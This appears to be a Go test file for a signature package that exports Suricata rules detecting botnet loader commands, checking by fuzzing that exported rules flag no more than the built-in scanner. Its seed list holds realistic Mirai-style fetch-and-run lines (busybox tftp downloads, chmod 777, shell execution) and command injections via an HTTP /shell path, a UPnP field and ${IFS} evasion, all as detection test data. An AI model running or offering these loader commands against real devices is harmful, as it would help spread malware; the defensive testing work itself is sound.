package signatures

import (
	"bytes"
	"math/rand/v2"
	"regexp"
	"strconv"
	"strings"
	"testing"
)

// commandRule is an exported command rule read back for evaluation: the
// keywords the export writes for one, as Suricata evaluates them on a
// packet payload.
type commandRule struct {
	sig       string
	port      uint16
	pcre      *regexp.Regexp
	notPCRE   []*regexp.Regexp
	notHave   [][]byte // negated contents, nocase (lower case)
	notHaveCS [][]byte // negated contents, case-sensitive
}

var (
	ruleHeader = regexp.MustCompile(`^alert tcp any any -> any (\S+) \(`)
	ruleOption = regexp.MustCompile(`(content|pcre):(!?)"((?:[^"\\]|\\.)*)";( nocase;)?`)
	ruleSig    = regexp.MustCompile(`wormsink_signature ([^,;]+)`)
)

func commandRules(t testing.TB, s *Set) []commandRule {
	t.Helper()
	var buf bytes.Buffer
	if err := Export(&buf, s, "suricata", nil); err != nil {
		t.Fatal(err)
	}
	var out []commandRule
	for _, line := range strings.Split(buf.String(), "\n") {
		if !strings.Contains(line, "fetch command") || strings.HasPrefix(line, "#") {
			continue
		}
		h := ruleHeader.FindStringSubmatch(line)
		if h == nil {
			t.Fatalf("not a tcp rule: %s", line)
		}
		r := commandRule{sig: ruleSig.FindStringSubmatch(line)[1]}
		if h[1] != "any" {
			p, _ := strconv.Atoi(h[1])
			r.port = uint16(p)
		}
		for _, o := range ruleOption.FindAllStringSubmatch(line, -1) {
			kind, neg, val, nocase := o[1], o[2] == "!", o[3], o[4] != ""
			switch {
			case kind == "pcre":
				if !strings.HasPrefix(val, "/") || !strings.HasSuffix(val, "/") {
					t.Fatalf("pcre with flags or no slashes: %s", val)
				}
				re := regexp.MustCompile(val[1 : len(val)-1])
				if neg {
					r.notPCRE = append(r.notPCRE, re)
				} else {
					r.pcre = re
				}
			case neg:
				b, err := parseContent(val)
				if err != nil {
					t.Fatal(err)
				}
				if nocase {
					r.notHave = append(r.notHave, bytes.ToLower(b))
				} else {
					r.notHaveCS = append(r.notHaveCS, b)
				}
			}
		}
		if r.pcre == nil {
			t.Fatalf("command rule without pcre: %s", line)
		}
		out = append(out, r)
	}
	return out
}

func (r *commandRule) matches(p []byte) bool {
	if !r.pcre.Match(p) {
		return false
	}
	for _, re := range r.notPCRE {
		if re.Match(p) {
			return false
		}
	}
	low := bytes.ToLower(p)
	for _, c := range r.notHave {
		if bytes.Contains(low, c) {
			return false
		}
	}
	for _, c := range r.notHaveCS {
		if bytes.Contains(p, c) {
			return false
		}
	}
	return true
}

// scanFlags reports whether scan finds payload, sent to port, evidence for sig.
func scanFlags(s *Set, port uint16, payload []byte, sig string) bool {
	found := false
	s.MatchPayloads(TCP, port, payload, func(m PayloadMatch) bool {
		found = found || m.Signature.ID == sig
		return true
	})
	return found
}

// checkSubset fails when an exported command rule flags a payload that
// scan does not find evidence for its signature in.
func checkSubset(t testing.TB, s *Set, rules []commandRule, p []byte) int {
	n := 0
	for i := range rules {
		r := &rules[i]
		if !r.matches(p) {
			continue
		}
		n++
		if !scanFlags(s, r.port, p, r.sig) {
			t.Fatalf("the exported rule of %s on port %d flags %q, scan does not", r.sig, r.port, p)
		}
	}
	return n
}

// commandSeeds are loader lines as they are sent, and near misses.
var commandSeeds = []string{
	"/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 10.0.0.9; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI\r\n",
	"/bin/busybox tftp -g -l 19ju3d -r sora.mips 198.51.100.4; /bin/busybox chmod 777 19ju3d\r\n",
	"cd /tmp || cd /var/run; tftp 10.0.0.9 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; tftp -r tftp2.sh -g 10.0.0.9; sh tftp2.sh\r\n",
	"tftp 198.51.100.4 -c get axistftp1.sh; tftp -r axistftp2.sh -g 198.51.100.4",
	"GET /shell?cd+/tmp;busybox+tftp+-r+tftp2.sh+-g+10.0.0.9;sh+tftp2.sh HTTP/1.1\r\nHost: x\r\n\r\n",
	"<NewInternalClient>`cd /tmp;busybox tftp -g -l x -r mirai.mpsl 10.0.0.9`</NewInternalClient>",
	"cmd=tftp%20-g%20-r%20mirai.arm5%2010.0.0.9",
	"tftp${IFS}-g${IFS}-r${IFS}x.sh${IFS}10.0.0.9",
	"tftp -i 10.0.0.9 GET msblast.exe\n",
	"tftp -g -r mirai.arm7 -r x.sh 10.0.0.9",
	"tftp -g -r x.sh -r mirai.arm7 10.0.0.9",
	"tftp -l -r mirai.arm7 -g h",
	"tftp -c get tftp1.sh -c get x.sh",
	"tftp -i 10.0.0.9 GET get mirai.arm7",
	"tftp -g -r mirai.arm7 h\xff\xfb;x",
	"tftp -g -r m%69rai.arm7 h",
	"tftp -g -r \"mirai.arm7\" h",
	"x.sh tftp -g -r tftp1.sh h",
	"GET /downloads/tftp1.sh HTTP/1.1\r\n\r\n",
	"tftp -g x tftp -i 10.0.0.9 GET mirai.arm7",
	"tftp -g x ${IFS;}tftp -i 10.0.0.9 GET mirai.arm7",
	"tftp -g x; tftp -i 10.0.0.9 GET mirai.arm7",
}

// FuzzCommandRuleExport: whatever the payload, an exported command rule
// of the built-in set flags it only when scan finds the same signature
// in it (the rules may find less, never more).
func FuzzCommandRuleExport(f *testing.F) {
	for _, s := range commandSeeds {
		f.Add([]byte(s))
	}
	s := Default()
	rules := commandRules(f, s)
	f.Fuzz(func(t *testing.T, p []byte) {
		checkSubset(t, s, rules, p)
	})
}

// TestCommandRuleExportSubset: command lines put together at random from
// the pieces loaders, exploits and evasions use: no exported command rule
// flags one that scan does not, and the rules do flag many of them (the
// check is not empty).
func TestCommandRuleExportSubset(t *testing.T) {
	s := Default()
	rules := commandRules(t, s)
	if len(rules) < 12 {
		t.Fatalf("%d command rules", len(rules))
	}
	pieces := []string{"tftp", "busybox", "/bin/busybox", "TFTP.EXE", "atftp", "-g", "-r", "-l", "-c", "-i", "-p", "-gr", "-b", "get", "GET",
		"mirai.arm7", "sora.mips", "tftp1.sh", "axistftp2.sh", "x.sh", "-x.arm7", "/bins/mirai.x86", "10.0.0.9", "h", "512",
		" ", " ", " ", "+", "%20", "${IFS}", "$IFS", "$9", "\t", "\"", "'", ";", "&&", "|", "`", "\r\n", "%3B", "%2F", "%6d", "=", "cmd=", "/",
		"\xff\xfb\x01", "\xff\xff", "--get", "--remote-file=", "?", "*", "-", "--"}
	rng := rand.New(rand.NewPCG(1, 2))
	flagged := 0
	for range 3000 {
		var b []byte
		if rng.IntN(2) == 0 {
			b = append(b, commandSeeds[rng.IntN(len(commandSeeds))]...)
		}
		for range 3 + rng.IntN(14) {
			b = append(b, pieces[rng.IntN(len(pieces))]...)
			if rng.IntN(3) > 0 {
				b = append(b, ' ')
			}
		}
		if checkSubset(t, s, rules, b) > 0 {
			flagged++
		}
	}
	for _, seed := range commandSeeds {
		checkSubset(t, s, rules, []byte(seed))
	}
	if flagged < 100 {
		t.Errorf("the rules flagged only %d of 3000 lines: the check proves little", flagged)
	}
	t.Logf("rules flagged %d of 3000 random lines", flagged)
}

// TestCommandRuleExportOddNames: a listed name with a byte that scan
// decodes or splits on ('+' is a URL space) cannot be matched by a pcre on
// the raw bytes: that entry is left out of the rule, and a rule with no
// entry left is written as a comment only.
func TestCommandRuleExportOddNames(t *testing.T) {
	s, err := Parse("odd.yaml", []byte(`serial: 1
signatures:
  - id: odd
    family: Odd
    tftp_files: ["a+b.sh", "plain.sh"]
    payloads: [{proto: tcp, port: 23, command: tftp}]
  - id: only-odd
    family: Odd
    tftp_files: ["c+d.sh"]
    payloads: [{proto: tcp, port: 23, command: tftp}]
`))
	if err != nil {
		t.Fatal(err)
	}
	rules := commandRules(t, s)
	if len(rules) != 1 || rules[0].sig != "odd" {
		t.Fatalf("rules %+v, want the one of odd", rules)
	}
	var buf bytes.Buffer
	if err := Export(&buf, s, "suricata", nil); err != nil {
		t.Fatal(err)
	}
	if !strings.Contains(buf.String(), "# only-odd: command rule on tcp/23 left out") {
		t.Errorf("no comment for the rule left out:\n%s", buf.String())
	}
	for _, c := range []struct {
		p    string
		want bool
	}{
		{"tftp -g -r plain.sh h", true},
		{"tftp -g -r PLAIN.SH h", true},
		{"tftp -g -r a+b.sh h", false}, // scan reads "a" and "b.sh"
		{"tftp -g -r a%2Bb.sh h", false},
	} {
		if got := rules[0].matches([]byte(c.p)); got != c.want {
			t.Errorf("%q: rule matches %v, want %v", c.p, got, c.want)
		}
		checkSubset(t, s, rules, []byte(c.p))
	}
	if !scanFlags(s, 23, []byte("tftp -g -r a%2Bb.sh h"), "odd") {
		t.Error("scan does not find a%2Bb.sh")
	}
}
